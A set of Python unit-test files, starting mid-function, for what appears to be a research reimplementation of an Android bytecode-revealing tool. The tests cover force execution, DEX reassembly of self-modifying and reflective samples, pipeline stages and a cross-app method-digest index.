    )
    report = engine.run()
    summary = {k: v for k, v in report.to_summary().items()
               if k not in DECLARED}
    return {
        "summary": summary,
        "order": [tuple(key) for key in report.exploration_order],
        "curve": list(report.coverage_curve),
        "covered": {site for site, seen in engine.outcomes.items()
                    if len(seen) == 2},
        "collector_stats": collector.stats(),
        # The serialised collection files, byte for byte.
        "archive": CollectionArchive.from_collector(collector)._payload,
    }


class TestBackendEquivalence:
    """Serial is the reference; thread and process must match it."""

    @pytest.mark.parametrize("sample", selfmod_samples(),
                             ids=lambda s: s.name)
    def test_selfmod_corpus_identical_across_backends(self, sample):
        # Self-modifying code is the adversarial case: replays decode
        # patched bytes, the predecode stores carry stale copies, and
        # process workers see the APK only through its serialised form.
        reference = _explore(sample.build_apk(), BACKEND_SERIAL, 1)
        for backend in (BACKEND_THREAD, BACKEND_PROCESS):
            for workers in (1, 2, 8):
                got = _explore(sample.build_apk(), backend, workers)
                assert got == reference, (
                    f"{sample.name}: {backend}@{workers} diverged from "
                    f"the serial reference"
                )

    @pytest.mark.parametrize("workers", [1, 2, 8])
    @pytest.mark.parametrize("backend", [BACKEND_THREAD, BACKEND_PROCESS])
    def test_branchy_workload_identical(self, backend, workers):
        reference = _explore(_branchy_apk(), BACKEND_SERIAL, 1)
        got = _explore(_branchy_apk(), backend, workers)
        assert got == reference

    @pytest.mark.parametrize("workers", [1, 2, 8])
    @pytest.mark.parametrize("backend", [BACKEND_THREAD, BACKEND_PROCESS])
    def test_packer_workload_identical(self, backend, workers):
        reference = _explore(_packer_apk(), BACKEND_SERIAL, 1)
        got = _explore(_packer_apk(), backend, workers)
        assert got == reference

    def test_packer_workload_actually_replays_patched_code(self):
        # Guard against vacuity: the packer workload must force the
        # gate *inside* the self-modified method via a real replay.
        reference = _explore(_packer_apk(), BACKEND_SERIAL, 1)
        assert reference["summary"]["paths_explored"] >= 1
        assert any(site[0] == PACKED_SIG for site in reference["covered"])

    def test_exploration_order_is_meaningful(self):
        # Guard against the suite passing vacuously: the branchy
        # workload must actually replay multiple paths.
        reference = _explore(_branchy_apk(), BACKEND_SERIAL, 1)
        assert len(reference["order"]) >= 3
        assert reference["summary"]["runs"] >= 4  # baseline + replays
        assert len(reference["covered"]) >= 3


class TestPipelineEquivalence:
    """The same contract through CollectStage, archive included."""

    def test_collect_stage_archive_identical(self, tmp_path):
        payloads = {}
        for backend in EXPLORE_BACKENDS:
            config = RevealConfig(
                use_force_execution=True,
                force_iterations=8,
                explore_workers=2,
                explore_backend=backend,
                archive_dir=str(tmp_path / backend),
            )
            result = CollectStage(config).run(_branchy_apk())
            payload = dict(result.archive._payload)
            # The predecode index is warm *cache* state, not collection
            # output: under the process backend replay decoding happens
            # in the workers, so the parent exports a smaller index.
            # Every collection file and the exploration state must
            # still match byte for byte.
            payload.pop(PREDECODE_INDEX_FILE, None)
            payloads[backend] = payload
        assert payloads[BACKEND_THREAD] == payloads[BACKEND_SERIAL]
        assert payloads[BACKEND_PROCESS] == payloads[BACKEND_SERIAL]

    def test_config_hash_feeds_backend(self):
        base = RevealConfig()
        assert base.explore_backend == BACKEND_THREAD
        hashes = {RevealConfig(explore_backend=b).config_hash()
                  for b in EXPLORE_BACKENDS}
        assert len(hashes) == len(EXPLORE_BACKENDS)

    def test_config_round_trips_backend(self):
        config = RevealConfig(explore_backend=BACKEND_PROCESS)
        again = RevealConfig.from_json(config.to_json())
        assert again.explore_backend == BACKEND_PROCESS
        assert again == config

    def test_unknown_backend_rejected(self):
        with pytest.raises(ValueError, match="explore_backend"):
            RevealConfig(explore_backend="gpu")
        with pytest.raises(ValueError, match="backend"):
            ForceExecutionEngine(_branchy_apk(), backend="gpu")
