"""Reassembler and end-to-end pipeline tests."""


from repro.analysis import horndroid
from repro.core import INSTRUMENT_CLASS, DexLego
from repro.dex import assemble, assert_valid
from repro.runtime import AndroidRuntime, Apk, AppDriver

from tests.conftest import build_simple_apk


class TestBasicReassembly:
    def test_revealed_dex_is_valid(self):
        result = DexLego().reveal(build_simple_apk("r.valid"))
        assert_valid(result.reassembled_dex)

    def test_semantics_preserved_on_reexecution(self):
        result = DexLego().reveal(build_simple_apk("r.sem"))
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, result.revealed_apk)
        report = driver.launch()
        assert report.launched, report.crash_reason
        assert driver.activity.fields[("Lcom/fix/Simple;", "total")] == 285

    def test_static_values_carried(self):
        text = """
.class public Lr/Sv;
.super Landroid/app/Activity;
.field public static final TAG:Ljava/lang/String; = "carried"
.field public static COUNT:I = 7

.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    sget-object v0, Lr/Sv;->TAG:Ljava/lang/String;
    sget v1, Lr/Sv;->COUNT:I
    return-void
.end method
"""
        apk = Apk("r.sv", "Lr/Sv;", [assemble(text)])
        dex = DexLego().reveal(apk).reassembled_dex
        cls = dex.find_class("Lr/Sv;")
        values = {}
        for encoded, value in zip(cls.static_fields, cls.static_values):
            values[dex.field_ref(encoded.field_idx).name] = value
        assert dex.string(values["TAG"].value) == "carried"
        assert values["COUNT"].value == 7

    def test_unexecuted_method_becomes_stub(self):
        text = """
.class public Lr/Stub;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 2
    return-void
.end method

.method public neverCalled()I
    .registers 4
    const/16 v0, 1000
    const/16 v1, 2000
    add-int v0, v0, v1
    return v0
.end method
"""
        apk = Apk("r.stub", "Lr/Stub;", [assemble(text)])
        dex = DexLego().reveal(apk).reassembled_dex
        cls = dex.find_class("Lr/Stub;")
        never = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "neverCalled"
        )
        # Dead code was replaced by a two-instruction default-return stub.
        assert len(never.code.instructions()) <= 2

    def test_unexecuted_branch_side_dead_ends(self):
        text = """
.class public Lr/Half;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 1
    if-eqz v0, :never
    return-void
    :never
    const/16 v1, 999
    return-void
.end method
"""
        apk = Apk("r.half", "Lr/Half;", [assemble(text)])
        dex = DexLego().reveal(apk).reassembled_dex
        cls = dex.find_class("Lr/Half;")
        method = cls.all_methods()[0]
        literals = [
            ins.operands[-1]
            for _pc, ins in method.code.instructions()
            if ins.name == "const/16"
        ]
        assert 999 not in literals  # never-executed side is gone

    def test_try_blocks_reattached(self):
        text = """
.class public Lr/Try;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    :s
    const/16 v1, 50
    div-int v1, v1, v0
    :e
    return-void
    :h
    return-void
    .catch Ljava/lang/ArithmeticException; {:s .. :e} :h
.end method
"""
        apk = Apk("r.try", "Lr/Try;", [assemble(text)])
        result = DexLego().reveal(apk)
        cls = result.reassembled_dex.find_class("Lr/Try;")
        method = cls.all_methods()[0]
        assert len(method.code.tries) == 1
        # Re-execution still catches.
        runtime = AndroidRuntime()
        report = AppDriver(runtime, result.revealed_apk).launch()
        assert report.launched and not report.crashed

    def test_switch_payloads_rematerialized(self):
        text = """
.class public Lr/Sw;
.super Landroid/app/Activity;
.field public static out:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 1
    packed-switch v0, :t
    const/4 v1, 0
    goto :store
    :zero
    const/16 v1, 10
    goto :store
    :one
    const/16 v1, 20
    :store
    sput v1, Lr/Sw;->out:I
    return-void
    :t
    .packed-switch 0
        :zero
        :one
    .end packed-switch
.end method
"""
        apk = Apk("r.sw", "Lr/Sw;", [assemble(text)])
        result = DexLego().reveal(apk)
        runtime = AndroidRuntime()
        AppDriver(runtime, result.revealed_apk).launch()
        assert runtime.class_linker.lookup("Lr/Sw;").statics["out"] == 20


class TestSelfModifyingReassembly:
    def _selfmod_result(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("SelfMod0")
        return DexLego().reveal(sample.build_apk())

    def test_both_versions_present(self):
        dex = self._selfmod_result().reassembled_dex
        cls = dex.find_class("Lde/bench/selfmod/SelfMod0;")
        leak = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "leak"
        )
        invoked = {
            dex.method_ref(ins.pool_index).name
            for _pc, ins in leak.code.instructions()
            if ins.opcode.is_invoke
        }
        assert {"normal", "sink0"} <= invoked

    def test_instrument_class_emitted_with_clinit(self):
        dex = self._selfmod_result().reassembled_dex
        cls = dex.find_class(INSTRUMENT_CLASS)
        assert cls is not None
        assert cls.static_fields, "divergence selector fields missing"
        names = [dex.method_ref(m.method_idx).name for m in cls.all_methods()]
        assert "<clinit>" in names

    def test_selector_reads_instrument_field(self):
        dex = self._selfmod_result().reassembled_dex
        cls = dex.find_class("Lde/bench/selfmod/SelfMod0;")
        leak = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "leak"
        )
        sgets = [
            dex.field_ref(ins.pool_index).class_desc
            for _pc, ins in leak.code.instructions()
            if ins.name == "sget-boolean"
        ]
        assert INSTRUMENT_CLASS in sgets

    def test_static_tool_sees_hidden_flow(self):
        revealed = self._selfmod_result().revealed_apk
        assert horndroid().analyze(revealed).detected

    def test_two_layer_divergence_reassembles(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("SelfMod3")
        result = DexLego().reveal(sample.build_apk())
        assert_valid(result.reassembled_dex)
        dex = result.reassembled_dex
        cls = dex.find_class("Lde/bench/selfmod/SelfMod3;")
        leak = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "leak"
        )
        invoked = {
            dex.method_ref(ins.pool_index).name
            for _pc, ins in leak.code.instructions()
            if ins.opcode.is_invoke
        }
        assert {"normal", "decoy", "sink3"} <= invoked

    def test_variant_dispatch_for_cross_run_modification(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("SelfMod2")
        result = DexLego().reveal(sample.build_apk())
        dex = result.reassembled_dex
        cls = dex.find_class("Lde/bench/selfmod/SelfMod2;")
        guarded = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "guarded"
        )
        names = [ins.name for _pc, ins in guarded.code.instructions()]
        # Both the if-eqz and the flipped if-nez variants exist.
        assert "if-eqz" in names and "if-nez" in names


class TestReflectionRewrite:
    def test_reflective_call_becomes_bridge(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("ReflectAdv1")
        result = DexLego().reveal(sample.build_apk())
        dex = result.reassembled_dex
        cls = dex.find_class("Lde/bench/reflect/ReflectAdv1;")
        on_create = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "onCreate"
        )
        invoked = [
            dex.method_ref(ins.pool_index)
            for _pc, ins in on_create.code.instructions()
            if ins.opcode.is_invoke
        ]
        assert not any(
            r.class_desc == "Ljava/lang/reflect/Method;" and r.name == "invoke"
            for r in invoked
        ), "Method.invoke survived the rewrite"
        assert any(r.class_desc == INSTRUMENT_CLASS for r in invoked)

    def test_bridge_app_reexecutes(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("ReflectAdv0")
        result = DexLego().reveal(sample.build_apk())
        runtime = AndroidRuntime()
        report = AppDriver(runtime, result.revealed_apk).launch()
        assert report.launched, report.crash_reason
        assert runtime.observed_leaks(), "bridge dropped the flow"


class TestDynamicLoadingMerge:
    def test_loaded_classes_merged_into_one_dex(self):
        from repro.benchsuite import sample_by_name

        sample = sample_by_name("DynLoad0")
        result = DexLego().reveal(sample.build_apk())
        descriptors = result.reassembled_dex.class_descriptors()
        assert "Lde/bench/dynload/DynLoad0;" in descriptors
        assert "Lde/bench/dynload/Plugin0;" in descriptors
        assert len(result.revealed_apk.dex_files) == 1
