"""Staged pipeline: composable stages, observer hook, archive-only entry."""

import pytest

from repro.core import (
    ALL_STAGES,
    CollectResult,
    CollectStage,
    DexLego,
    Pipeline,
    ReassembleStage,
    RevealConfig,
    StageError,
    VerifyStage,
    reveal_from_archive,
)
from repro.dex import assert_valid
from repro.errors import VerificationError
from repro.runtime import AndroidRuntime, AppDriver

from tests.conftest import build_simple_apk


class TestCollectStage:
    def test_result_carries_archive_and_outcome_only(self):
        collected = CollectStage().run(build_simple_apk("st.collect"))
        assert isinstance(collected, CollectResult)
        assert collected.archive.total_size_bytes() > 0
        assert collected.collector_stats["classes_collected"] == 1
        assert not collected.crashed and not collected.budget_exhausted
        # The old API faked downstream artefacts on the partial result;
        # the collect result must not carry any.
        assert not hasattr(collected, "revealed_apk")
        assert not hasattr(collected, "reassembled_dex")

    def test_dexlego_collect_returns_collect_result(self):
        collected = DexLego().collect(build_simple_apk("st.facade"))
        assert isinstance(collected, CollectResult)
        assert collected.dump_size_bytes == collected.archive.total_size_bytes()

    def test_budget_exhaustion_is_an_outcome_not_a_failure(self):
        collected = CollectStage(RevealConfig(run_budget=40)).run(
            build_simple_apk("st.budget"))
        assert collected.budget_exhausted
        assert collected.archive.total_size_bytes() > 0

    def test_raising_drive_is_a_collect_stage_error(self):
        def bad_drive(driver):
            raise RuntimeError("drive died")

        with pytest.raises(StageError) as excinfo:
            CollectStage().run(build_simple_apk("st.baddrive"), bad_drive)
        assert excinfo.value.stage == "collect"
        assert isinstance(excinfo.value.cause, RuntimeError)


class TestOfflineStages:
    def test_reassemble_then_verify(self):
        collected = CollectStage().run(build_simple_apk("st.offline"))
        dex = ReassembleStage().run(collected.archive)
        assert VerifyStage().run(dex) is dex
        assert dex.find_class("Lcom/fix/Simple;") is not None

    def test_verify_stage_wraps_verification_error(self, monkeypatch):
        import repro.core.stages as stages_module

        def always_invalid(dex):
            raise VerificationError("bad dex")

        monkeypatch.setattr(stages_module, "assert_valid", always_invalid)
        with pytest.raises(StageError) as excinfo:
            VerifyStage().run(object())
        assert excinfo.value.stage == "verify"
        assert isinstance(excinfo.value.cause, VerificationError)


class TestRevealFromArchive:
    def test_saved_archive_reassembles_to_valid_dex(self, tmp_path):
        # The separability claim: collect on one side of the disk
        # boundary, reassemble standalone on the other.
        target = str(tmp_path / "dump")
        CollectStage().run(build_simple_apk("st.sep")).archive.save(target)
        result = reveal_from_archive(target)
        assert_valid(result.reassembled_dex)
        assert result.revealed_apk is None  # nothing to repack
        assert result.collector_stats == {}
        assert set(result.stage_timings) == {"reassemble", "verify"}

    def test_repacks_when_apk_provided(self, tmp_path):
        apk = build_simple_apk("st.repack")
        target = str(tmp_path / "dump")
        CollectStage().run(apk).archive.save(target)
        result = reveal_from_archive(target, apk=apk)
        assert result.revealed_apk is not None
        assert result.revealed_apk.dex_files == [result.reassembled_dex]
        report = AppDriver(AndroidRuntime(), result.revealed_apk).launch()
        assert report.launched, report.crash_reason

    def test_accepts_live_archive_object(self):
        collected = CollectStage().run(build_simple_apk("st.live"))
        result = reveal_from_archive(collected.archive)
        assert_valid(result.reassembled_dex)

    def test_accepts_pathlike_source(self, tmp_path):
        target = tmp_path / "dump"
        CollectStage().run(build_simple_apk("st.path")).archive.save(
            str(target))
        result = reveal_from_archive(target)  # pathlib.Path, not str
        assert_valid(result.reassembled_dex)

    def test_partial_budget_archive_is_usable(self, tmp_path):
        # BudgetExceeded mid-drive: the executed prefix must still
        # reassemble offline into a valid DEX.
        collected = CollectStage(RevealConfig(run_budget=40)).run(
            build_simple_apk("st.partial"))
        assert collected.budget_exhausted
        target = str(tmp_path / "partial")
        collected.archive.save(target)
        result = reveal_from_archive(target)
        assert_valid(result.reassembled_dex)

    def test_matches_full_pipeline_output(self, tmp_path):
        apk = build_simple_apk("st.match")
        full = DexLego().reveal(apk)
        target = str(tmp_path / "dump")
        full.archive.save(target)
        from repro.dex import write_dex

        offline = reveal_from_archive(target)
        assert write_dex(offline.reassembled_dex) == \
            write_dex(full.reassembled_dex)


class TestPipelineOrchestration:
    def test_observer_sees_stages_in_order(self):
        events = []
        pipeline = Pipeline(observer=events.append)
        result = pipeline.run(build_simple_apk("st.observe"))
        assert [e.stage for e in events] == list(ALL_STAGES)
        assert all(e.ok and not e.error for e in events)
        assert all(e.duration_s >= 0 for e in events)
        assert set(result.stage_timings) == set(ALL_STAGES)

    def test_observer_sees_failure(self, monkeypatch):
        import repro.core.stages as stages_module

        def always_invalid(dex):
            raise VerificationError("observed failure")

        monkeypatch.setattr(stages_module, "assert_valid", always_invalid)
        events = []
        with pytest.raises(StageError):
            Pipeline(observer=events.append).run(
                build_simple_apk("st.observefail"))
        assert [e.stage for e in events] == ["collect", "reassemble", "verify"]
        failed = events[-1]
        assert not failed.ok and "observed failure" in failed.error

    def test_reveal_result_unchanged_for_facade_callers(self):
        # The paper-shaped entry points still hand back the full result.
        result = DexLego().reveal(build_simple_apk("st.compat"))
        assert result.revealed_apk is not None
        assert result.reassembled_dex.find_class("Lcom/fix/Simple;")
        assert result.collector_stats["classes_collected"] == 1
        assert result.dump_size_bytes > 0
