"""Force execution engine tests (§IV-E)."""

from repro.core import ForceExecutionEngine, ForcedPathController, PathFile
from repro.coverage import CoverageCollector
from repro.dex import assemble
from repro.runtime import Apk


def _gated_apk(package: str = "f.gate") -> Apk:
    """An app whose juicy branch is unreachable under normal input."""
    text = """
.class public Lf/Gate;
.super Landroid/app/Activity;
.field public static hits:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {p0}, Lf/Gate;->getIntent()Landroid/content/Intent;
    move-result-object v0
    if-nez v0, :skip
    goto :skip
    :skip
    const/4 v1, 0
    if-eqz v1, :locked
    goto :end
    :locked
    sget v2, Lf/Gate;->hits:I
    add-int/lit8 v2, v2, 1
    sput v2, Lf/Gate;->hits:I
    :end
    return-void
.end method
"""
    return Apk(package, "Lf/Gate;", [assemble(text)])


class TestPathFiles:
    def test_json_roundtrip(self):
        path = PathFile(("Lf/Gate;->m()V", 10), True,
                        [("Lf/Gate;->m()V", 4, False),
                         ("Lf/Gate;->m()V", 10, True)])
        again = PathFile.from_json(path.to_json())
        assert again.target == path.target
        assert again.forced_outcome is True
        assert again.decisions == path.decisions

    def test_controller_forces_in_order(self):
        path = PathFile(("sig", 4), True, [("sig", 4, True)])
        controller = ForcedPathController(path)

        class FakeDex:  # sentinel: source_dex must be non-None
            pass

        class FakeKlass:
            source_dex = FakeDex()

        class FakeMethod:
            declaring_class = FakeKlass()

            class ref:
                signature = "sig"

        class FakeFrame:
            method = FakeMethod()

        assert controller.decide(FakeFrame(), 4, None, False) is True
        assert not controller.queue
        # Past the flip: free execution.
        assert controller.decide(FakeFrame(), 4, None, False) is None


class TestEngine:
    def test_wait_locked_branch_is_reached(self):
        engine = ForceExecutionEngine(_gated_apk("f.e1"), max_iterations=4)
        report = engine.run()
        assert report.paths_executed >= 1
        # The locked branch site now has both outcomes observed.
        locked_sites = [
            seen for site, seen in engine.outcomes.items()
            if site[0].startswith("Lf/Gate;->onCreate")
        ]
        assert any(len(seen) == 2 for seen in locked_sites)

    def test_gated_code_collected_under_forcing(self):
        collector = CoverageCollector()
        engine = ForceExecutionEngine(
            _gated_apk("f.e2"), shared_listeners=[collector], max_iterations=4
        )
        engine.run()
        # The sget/add/sput block behind the gate executed in some run.
        report = collector.report(_gated_apk("f.e2b").dex_files)
        assert report.instructions == 1.0

    def test_no_new_ucbs_terminates(self):
        engine = ForceExecutionEngine(_gated_apk("f.e3"), max_iterations=10)
        report = engine.run()
        assert report.iterations < 10  # converged before the cap

    def test_crash_tolerated_and_counted(self):
        from repro.errors import NativeCrash
        from repro.runtime import register_native_library

        text = """
.class public Lf/Cr;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 0
    if-eqz v0, :safe
    invoke-virtual {p0}, Lf/Cr;->boom()V
    :safe
    return-void
.end method
.method public static native boomNative()V
.end method
.method public boom()V
    .registers 1
    invoke-static {}, Lf/Cr;->boomNative()V
    return-void
.end method
"""

        def boom(ctx):
            raise NativeCrash("deliberate")

        register_native_library("libf_cr", {"Lf/Cr;->boomNative()V": boom})
        apk = Apk("f.cr", "Lf/Cr;", [assemble(text)],
                  native_libraries=["libf_cr"])
        engine = ForceExecutionEngine(apk, max_iterations=4)
        report = engine.run()
        # The flip reaching boom() crashed a run; engine carried on.
        assert report.paths_executed >= 1

    def test_unhandled_exceptions_cleared_during_forcing(self):
        text = """
.class public Lf/Ex;
.super Landroid/app/Activity;
.field public static reached:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 1
    if-nez v0, :ok
    const/4 v1, 0
    div-int v1, v0, v1
    :ok
    const/4 v2, 0
    if-eqz v2, :locked
    goto :end
    :locked
    const/4 v3, 1
    sput v3, Lf/Ex;->reached:I
    :end
    return-void
.end method
"""
        apk = Apk("f.ex", "Lf/Ex;", [assemble(text)])
        engine = ForceExecutionEngine(apk, max_iterations=6)
        report = engine.run()
        # Forcing the first branch causes a division by zero which must be
        # cleared (tolerated), not kill the engine.
        assert report.runs > 1
