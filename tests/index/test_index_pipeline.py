"""Cross-app dedup acceptance: the corpus index inside the pipeline.

The headline guarantee (ISSUE 7): on a corpus of ≥20 apps sharing ≥70%
of their methods, a warm :class:`CorpusIndex` lets a batch reveal skip
at least half of method reassembly — and the revealed DEX stays
byte-identical to the no-index path, because replaying a recorded body
re-executes the same emission ops the original writer performed.
"""

import pytest

from repro.benchsuite.shared_corpus import build_shared_corpus
from repro.dex import write_dex
from repro.service import (
    EVENT_INDEX,
    BatchRevealService,
    RevealJob,
    RevealServer,
)

# Small method bodies keep 61 reveals fast while leaving the sharing
# profile (8 shared libs, 2 unique classes → ~78% shared) intact.
_CORPUS_KW = dict(methods_per_class=2)
_APPS = 20


def _jobs(apps):
    return [RevealJob(app.package, app.apk) for app in apps]


class TestWarmCorpusDedup:
    def test_warm_index_skips_half_of_reassembly_byte_identically(
            self, tmp_path):
        index_dir = str(tmp_path / "corpus-index")

        cold_apps = build_shared_corpus(_APPS, **_CORPUS_KW)
        assert cold_apps[0].shared_fraction >= 0.7

        cold = BatchRevealService(index_dir=index_dir, workers=1)
        cold_report = cold.reveal_batch(_jobs(cold_apps))
        assert cold_report.ok_count == _APPS

        # A second wave of *different* apps (new packages, new unique
        # code) embedding the same library pool: the whole-APK result
        # cache cannot help, the method-level corpus index can.
        warm_apps = build_shared_corpus(
            _APPS, package_prefix="org.other", **_CORPUS_KW)
        warm = BatchRevealService(index_dir=index_dir, workers=1)
        warm_report = warm.reveal_batch(_jobs(warm_apps))
        assert warm_report.ok_count == _APPS

        summary = warm_report.index_summary()
        total = summary["bodies_replayed"] + summary["bodies_emitted"]
        assert total > 0
        replay_fraction = summary["bodies_replayed"] / total
        assert replay_fraction >= 0.5, summary

        # Byte-identity: every warm reveal equals the no-index path.
        baseline = BatchRevealService(workers=1)
        baseline_report = baseline.reveal_batch(_jobs(warm_apps))
        for indexed, plain in zip(warm_report.outcomes,
                                  baseline_report.outcomes):
            assert indexed.app_id == plain.app_id
            assert write_dex(indexed.reassembled_dex) == \
                write_dex(plain.reassembled_dex), indexed.app_id

    def test_cold_pass_already_dedups_within_the_batch(self, tmp_path):
        # The service shares one index across its jobs, so apps 2..N of
        # the *first* batch replay the library bodies app 1 registered.
        apps = build_shared_corpus(3, **_CORPUS_KW)
        service = BatchRevealService(
            index_dir=str(tmp_path / "idx"), workers=1)
        report = service.reveal_batch(_jobs(apps))
        summary = report.index_summary()
        assert summary["apps_indexed"] == 3
        assert summary["bodies_replayed"] > 0
        assert summary["corpus_new"] > 0
        assert "index:" in report.render()


class TestIndexStatsSurfaces:
    def test_no_index_no_stats(self):
        apps = build_shared_corpus(1, **_CORPUS_KW)
        report = BatchRevealService(workers=1).reveal_batch(_jobs(apps))
        assert report.index_summary() == {}
        assert "index:" not in report.render()

    def test_server_publishes_index_events(self, tmp_path):
        apps = build_shared_corpus(2, **_CORPUS_KW)
        service = BatchRevealService(
            index_dir=str(tmp_path / "idx"), workers=1)
        with RevealServer(service=service) as server:
            handles = server.submit_all(_jobs(apps))
            outcomes = server.await_all(handles)

        for handle, outcome in zip(handles, outcomes):
            assert outcome.index_stats, outcome.app_id
            assert outcome.to_summary()["index_stats"] == \
                outcome.index_stats
            index_events = [e for e in server.bus.events_for(handle.job_id)
                            if e.kind == EVENT_INDEX]
            assert len(index_events) == 1
            payload = index_events[0].payload
            assert payload == outcome.index_stats
            assert {"bodies_emitted", "bodies_replayed",
                    "corpus_known", "corpus_new"} <= payload.keys()

    @pytest.mark.parametrize("backend,workers", [
        ("thread", 4),
        ("process", 2),
    ])
    def test_parallel_backends_carry_index_stats(self, tmp_path,
                                                 backend, workers):
        apps = build_shared_corpus(4, **_CORPUS_KW)
        service = BatchRevealService(
            index_dir=str(tmp_path / "idx"),
            backend=backend, workers=workers)
        report = service.reveal_batch(_jobs(apps))
        assert report.ok_count == 4
        for outcome in report.outcomes:
            assert outcome.index_stats, outcome.app_id
        summary = report.index_summary()
        assert summary["apps_indexed"] == 4
        # Every executed body was either replayed or freshly emitted.
        assert summary["bodies_replayed"] + summary["bodies_emitted"] > 0
