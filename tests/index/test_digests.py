"""Method digest pipeline: exact, normalized and fuzzy digests.

The claims under test are the ones the corpus index leans on:

* the *exact* digest is insensitive to string/type/field/method pool
  ordering (two apps embedding the same class byte-for-byte get the
  same digest even though their pools assign different indices), but
  sensitive to registers and identifiers;
* the *normalized* digest is additionally insensitive to register
  allocation and identifier renaming (first-use ordinals), the
  library-variant detector;
* the *fuzzy* digest feeds similarity search and tolerates small body
  edits.
"""

from repro.benchsuite.shared_corpus import build_shared_corpus_app
from repro.core import CollectStage, RevealConfig
from repro.core.body_cache import exact_method_digest
from repro.dex import assemble
from repro.index import method_digests, class_fuzzy_digest
from repro.index.digests import MethodDigests
from repro.runtime import Apk


def _collect_store(apk):
    return CollectStage(RevealConfig()).run(apk).archive.method_store()


def _record(smali: str, main_cls: str, package: str):
    apk = Apk(package, main_cls, [assemble(smali)])
    store = _collect_store(apk)
    return store.get(f"{main_cls}->onCreate(Landroid/os/Bundle;)V")


# Two structurally identical activities: registers permuted
# (v0↔v3, v1↔v2) and every identifier renamed.
_VARIANT_A = """
.class public La/One;
.super Landroid/app/Activity;
.field public total:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 0
    const/4 v1, 0
    :loop
    const/16 v2, 10
    if-ge v1, v2, :done
    mul-int v3, v1, v1
    add-int v0, v0, v3
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    iput v0, p0, La/One;->total:I
    return-void
.end method
"""

_VARIANT_B = """
.class public Lb/Two;
.super Landroid/app/Activity;
.field public acc:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v3, 0
    const/4 v2, 0
    :loop
    const/16 v1, 10
    if-ge v2, v1, :done
    mul-int v0, v2, v2
    add-int v3, v3, v0
    add-int/lit8 v2, v2, 1
    goto :loop
    :done
    iput v3, p0, Lb/Two;->acc:I
    return-void
.end method
"""


class TestNormalizedDigest:
    def test_register_and_identifier_renaming_is_invisible(self):
        a = method_digests(_record(_VARIANT_A, "La/One;", "a.one"))
        b = method_digests(_record(_VARIANT_B, "Lb/Two;", "b.two"))
        assert a.norm == b.norm

    def test_exact_digest_sees_the_renaming(self):
        a = method_digests(_record(_VARIANT_A, "La/One;", "a.one"))
        b = method_digests(_record(_VARIANT_B, "Lb/Two;", "b.two"))
        assert a.exact != b.exact

    def test_fuzzy_digest_is_stable_under_renaming(self):
        # The fuzzy stream derives from the same normalized tokens, so
        # register permutation + identifier renaming cannot move even a
        # single histogram bucket — LSH buckets see one method, not two.
        a = method_digests(_record(_VARIANT_A, "La/One;", "a.one"))
        b = method_digests(_record(_VARIANT_B, "Lb/Two;", "b.two"))
        assert a.fuzzy is not None
        assert a.fuzzy == b.fuzzy


class TestExactDigest:
    def test_pool_index_shifts_are_invisible(self):
        # The same shared library class lands in two different apps
        # whose pools order symbols differently (per-app unique classes
        # and package names shift every index); the canonical digest of
        # each shared method must agree across the apps.
        one = build_shared_corpus_app("x.alpha", app_seed=1)
        two = build_shared_corpus_app("y.omega", app_seed=2)
        store_one = _collect_store(one.apk)
        store_two = _collect_store(two.apk)
        shared_sigs = [
            r.signature for r in store_one.executed_records()
            if r.class_desc in one.shared_classes
        ]
        assert shared_sigs  # the launch exercises the libraries
        for sig in shared_sigs:
            rec_one, rec_two = store_one.get(sig), store_two.get(sig)
            assert rec_one is not None and rec_two is not None
            assert exact_method_digest(rec_one) == \
                exact_method_digest(rec_two), sig

    def test_deterministic(self):
        record = _record(_VARIANT_A, "La/One;", "a.one")
        assert exact_method_digest(record) == exact_method_digest(record)


class TestMethodDigests:
    def test_shape(self):
        digests = method_digests(_record(_VARIANT_A, "La/One;", "a.one"))
        assert isinstance(digests, MethodDigests)
        assert len(digests.exact) == 64 and int(digests.exact, 16) >= 0
        assert len(digests.norm) == 64 and int(digests.norm, 16) >= 0
        assert digests.fuzzy is None or len(digests.fuzzy) == 70

    def test_precomputed_exact_is_honoured(self):
        record = _record(_VARIANT_A, "La/One;", "a.one")
        digests = method_digests(record, exact="f" * 64)
        assert digests.exact == "f" * 64


class TestClassFuzzyDigest:
    def test_member_order_is_irrelevant(self):
        app = build_shared_corpus_app("z.ordered", app_seed=3)
        store = _collect_store(app.apk)
        lib = app.shared_classes[0]
        members = [r for r in store.executed_records()
                   if r.class_desc == lib]
        assert len(members) >= 3
        forward = class_fuzzy_digest(members)
        backward = class_fuzzy_digest(list(reversed(members)))
        assert forward == backward
        assert forward is None or len(forward) == 70
