"""Properties of the pure-python TLSH-style fuzzy digest."""

import pytest

from repro.index.fuzzy import MIN_FUZZY_LEN, fuzzy_digest, fuzzy_distance


def _blob(seed: int = 1, size: int = 400) -> bytes:
    # Deterministic pseudo-random bytes without the stdlib RNG, so the
    # test inputs are stable across python versions.
    out = bytearray()
    state = seed
    for _ in range(size):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
